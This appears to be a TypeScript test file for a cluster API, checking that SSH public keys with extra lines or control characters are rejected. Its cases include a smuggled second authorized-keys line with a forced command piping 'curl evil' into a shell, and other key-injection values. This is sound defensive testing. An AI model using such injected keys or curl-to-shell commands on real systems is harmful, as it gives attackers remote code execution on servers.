// linuxProfile.sshPublicKey is exactly one line `ssh-rsa <base64> [comment]` without control characters:
// a second line (a forced command with another key) would reach the VMs' authorized keys.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { sshRsaPublicKey } from '../../../local/support/ssh-key';
import { assertMatchesContract } from '../../support/contract';
import { call, startTestStack } from '../../support/stack';

let stack: Awaited<ReturnType<typeof startTestStack>>;
const key = sshRsaPublicKey();
const otherKey = sshRsaPublicKey(2048, 'attacker@example');

before(async () => {
  stack = await startTestStack();
});

after(async () => {
  await stack?.stop();
});

test('a key followed by a second line is refused at the edge and nothing is created', async () => {
  const cases: Array<[string, string]> = [
    ['a forced command on a second line', `${key}\ncommand="curl evil|sh" ${otherKey}`],
    ['a second key after a carriage return', `${key}\r${otherKey}`],
    ['a second key after CRLF', `${key}\r\n${otherKey}`],
    ['a NUL in the comment', `${key.replace('tester@example', 'tester\u0000@example')}`],
    ['an escape sequence in the comment', `${key.replace('tester@example', '\u001b[31mtester@example')}`],
    ['a tab in the comment', `${key.replace('tester@example', 'tester\t@example')}`],
  ];
  for (const [index, [what, sshPublicKey]] of cases.entries()) {
    const name = `sshkey${index}`;
    const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name, linuxProfile: { sshPublicKey } } });
    assert.equal(answer.status, 400, `${what}: ${answer.status} ${answer.text.slice(0, 300)}`);
    assertMatchesContract('/clusters', 'post', 400, answer.json());
    const targets = [answer.json().error.target, ...(answer.json().error.details ?? []).map((detail: any) => detail.target)];
    assert.ok(targets.includes('linuxProfile.sshPublicKey'), `${what}: the error names linuxProfile.sshPublicKey: ${answer.text}`);
    assert.equal((await call('GET', `${stack.apiBaseUrl}/clusters/${name}`)).status, 404, `${what}: nothing was created`);
  }
});

test('one line with a comment is still accepted', async () => {
  const answer = await call('POST', `${stack.apiBaseUrl}/clusters`, { body: { name: 'sshok1', linuxProfile: { sshPublicKey: key } } });
  assert.equal(answer.status, 202, answer.text);
  assert.equal(answer.json().properties.linuxProfile.sshPublicKey, key);
});
